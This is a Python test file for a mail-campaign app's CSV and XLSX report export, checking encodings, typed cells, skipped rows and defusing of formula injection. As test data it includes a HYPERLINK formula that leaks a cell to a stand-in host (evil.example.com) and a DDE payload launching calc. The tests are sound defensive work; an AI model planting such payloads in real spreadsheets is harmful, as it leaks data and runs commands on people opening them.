"""The report export: original columns plus outcome, Chinese intact, formulas never live."""

from __future__ import annotations

import csv
import datetime as dt
import zipfile
from pathlib import Path

import openpyxl
import pytest

from app.core.journal import CampaignSnapshot, EventKind, Journal, SnapshotRow
from app.core.report import (
    OUTCOME_COLUMNS,
    ReportError,
    SkippedRow,
    export_report,
    guard_text,
)
from app.core.send.contracts import Stage
from tests.core.journal.helpers import T0, FakeNow, make_snapshot

EVIL_REPLY = '=HYPERLINK("http://evil.example.com/?leak="&A2,"Click me")'
ROWS = [
    ("li.lei@example.com", "李雷", "北京"),
    ("han.meimei@example.com", "@SUM(1+1)", "+1"),
    ("plain@example.org", "Ann", "-1"),
]


def _journal(folder: Path) -> Journal:
    base = make_snapshot(folder)
    rows = [
        SnapshotRow(n, a, (a,), {"Email": a, "Name": name, "City": city}, "0" * 64, f"<{n}@ex.org>")
        for n, (a, name, city) in enumerate(ROWS, start=2)
    ]
    snapshot = CampaignSnapshot("春季通知", base.sources, {}, rows, ("Email", "Name", "City"))
    journal = Journal.create(folder / "r.herald.sqlite", snapshot, now=FakeNow())
    first = journal.claim_next(T0)
    journal.mark_sending(first, first.message_id)  # type: ignore[union-attr]
    journal.mark_sent(first, 250, "2.0.0 已接收 queued")  # type: ignore[arg-type]
    second = journal.claim_next(T0)
    journal.mark_failed(second, 550, EVIL_REPLY, Stage.RCPT)  # type: ignore[arg-type]
    journal.record_event(EventKind.PAUSED, "=cmd|' /C calc'!A0")
    return journal


def test_csv_report_has_a_bom_chinese_text_and_the_outcome_columns(tmp_path: Path) -> None:
    out = tmp_path / "report.csv"
    with _journal(tmp_path) as journal:
        assert export_report(journal, out, tz=dt.UTC) == 3
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    with out.open(encoding="utf-8-sig", newline="") as stream:
        table = list(csv.reader(stream))
    assert table[0] == ["Email", "Name", "City", *OUTCOME_COLUMNS]
    assert table[1] == [
        "li.lei@example.com", "李雷", "北京",
        "sent", "2025-03-01 09:00:00", "1", "250", "2.0.0 已接收 queued", "<2@ex.org>", "2", "",
    ]  # fmt: skip
    assert table[3][3:5] == ["pending", ""]


def test_csv_report_defuses_every_cell_that_could_start_a_formula(tmp_path: Path) -> None:
    out = tmp_path / "report.csv"
    with _journal(tmp_path) as journal:
        export_report(journal, out)
    with out.open(encoding="utf-8-sig", newline="") as stream:
        table = list(csv.reader(stream))
    assert table[2][1:3] == ["'@SUM(1+1)", "'+1"]
    assert table[2][7] == "'" + EVIL_REPLY  # the server's reply is attacker-controlled too
    assert table[3][2] == "'-1"
    assert table[1][1] == "李雷"  # ordinary text untouched


def test_xlsx_report_keeps_values_exact_and_stores_formula_like_text_as_text(
    tmp_path: Path,
) -> None:
    out = tmp_path / "report.xlsx"
    with _journal(tmp_path) as journal:
        export_report(journal, out, tz=dt.UTC)
    sheet = openpyxl.load_workbook(out)["Recipients"]
    assert [c.value for c in sheet[1]] == ["Email", "Name", "City", *OUTCOME_COLUMNS]
    assert [c.value for c in sheet[2]] == [
        "li.lei@example.com", "李雷", "北京",
        "sent", dt.datetime(2025, 3, 1, 9, 0), 1, 250, "2.0.0 已接收 queued", "<2@ex.org>", 2, None,
    ]  # fmt: skip
    for cell in (sheet["B3"], sheet["C3"], sheet["H3"], sheet["C4"]):
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    assert (sheet["B3"].value, sheet["H3"].value) == ("@SUM(1+1)", EVIL_REPLY)
    with zipfile.ZipFile(out) as archive:
        xml = "".join(
            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")
        )
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere, events sheet included


def test_xlsx_report_lists_campaign_events(tmp_path: Path) -> None:
    out = tmp_path / "report.xlsx"
    with _journal(tmp_path) as journal:
        export_report(journal, out, tz=dt.UTC)
    events = openpyxl.load_workbook(out)["Events"]
    assert [c.value for c in events[3]][1:] == ["paused", "=cmd|' /C calc'!A0"]
    assert events["C3"].data_type == "s"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "＝1+1", "\0x"])
def test_guard_text_prefixes_an_apostrophe_to_formula_starts(text: str) -> None:
    guarded = guard_text(text)
    assert guarded.startswith("'") and "\0" not in guarded


@pytest.mark.parametrize("text", ["Ann", "李雷", "1-1", "a=b", "", " =1"])
def test_guard_text_leaves_ordinary_text_alone(text: str) -> None:
    assert guard_text(text) == text


def test_an_unknown_report_format_is_refused_and_nothing_is_written(tmp_path: Path) -> None:
    with _journal(tmp_path) as journal, pytest.raises(ReportError, match=r"\.xlsx or \.csv"):
        export_report(journal, tmp_path / "report.ods")
    assert not list(tmp_path.glob("*report*"))


def test_a_large_xlsx_report_streams_5000_rows(tmp_path: Path) -> None:
    import time

    with Journal.create(tmp_path / "big.herald.sqlite", make_snapshot(tmp_path, 5_000)) as j:
        started = time.perf_counter()
        assert export_report(j, tmp_path / "big.xlsx") == 5_000
        print(f"\nxlsx report of 5,000 rows: {time.perf_counter() - started:.2f} s")
    sheet = openpyxl.load_workbook(tmp_path / "big.xlsx", read_only=True)["Recipients"]
    assert sum(1 for _ in sheet.iter_rows(values_only=True)) == 5_001


def _typed_journal(folder: Path) -> Journal:
    base = make_snapshot(folder)
    fields = [
        {"Email": "a@example.com", "Paid": 12.5, "Due": dt.date(2025, 1, 2), "VIP": True},
        {"Email": "b@example.com", "Paid": 7, "Due": dt.datetime(2025, 2, 3, 14, 30), "VIP": 0},
    ]
    rows = [
        SnapshotRow(n, f["Email"], (f["Email"],), f, "0" * 64, f"<{n}@ex.org>")  # type: ignore[arg-type]
        for n, f in ((2, fields[0]), (5, fields[1]))
    ]
    headers = ("Email", "Paid", "Due", "VIP")
    snapshot = CampaignSnapshot("typed", base.sources, {}, rows, headers)
    return Journal.create(folder / "t.herald.sqlite", snapshot, now=FakeNow())


SKIPPED_ROWS = [
    SkippedRow(3, {"Email": "broken-at-example.com", "Paid": 1.0}, "invalid address"),
    SkippedRow(6, {"Email": "a@example.com", "Due": dt.date(2025, 9, 9)}, "duplicate of row 2"),
]


def test_xlsx_report_keeps_the_workbooks_types_and_lists_skipped_rows(tmp_path: Path) -> None:
    out = tmp_path / "typed.xlsx"
    with _typed_journal(tmp_path) as journal:
        assert export_report(journal, out, tz=dt.UTC, skipped=SKIPPED_ROWS) == 4
    sheet = openpyxl.load_workbook(out)["Recipients"]
    rows = [[c.value for c in r] for r in sheet.iter_rows(min_row=2)]
    status, note = 4 + OUTCOME_COLUMNS.index("Status"), 4 + OUTCOME_COLUMNS.index("Note")
    workbook_row = 4 + OUTCOME_COLUMNS.index("Workbook row")
    assert [r[workbook_row] for r in rows] == [2, 3, 5, 6]  # workbook order, none missing
    assert rows[0][1:4] == [12.5, dt.datetime(2025, 1, 2), True]  # numbers, dates, booleans
    assert sheet["C2"].number_format == "yyyy-mm-dd"  # a date, shown as one
    assert rows[2][1:3] == [7, dt.datetime(2025, 2, 3, 14, 30)]
    assert [r[status] for r in rows] == ["pending", "skipped", "pending", "skipped"]
    assert (rows[1][note], rows[3][note]) == ("invalid address", "duplicate of row 2")


def test_csv_report_shows_typed_cells_as_the_workbook_does(tmp_path: Path) -> None:
    out = tmp_path / "typed.csv"
    with _typed_journal(tmp_path) as journal:
        export_report(journal, out, skipped=SKIPPED_ROWS)
    with out.open(encoding="utf-8-sig", newline="") as stream:
        table = list(csv.reader(stream))
    assert table[1][:4] == ["a@example.com", "12.5", "2025-01-02", "TRUE"]
    assert table[2][:2] == ["broken-at-example.com", "1"]
    assert table[2][4] == "skipped" and table[2][-1] == "invalid address"
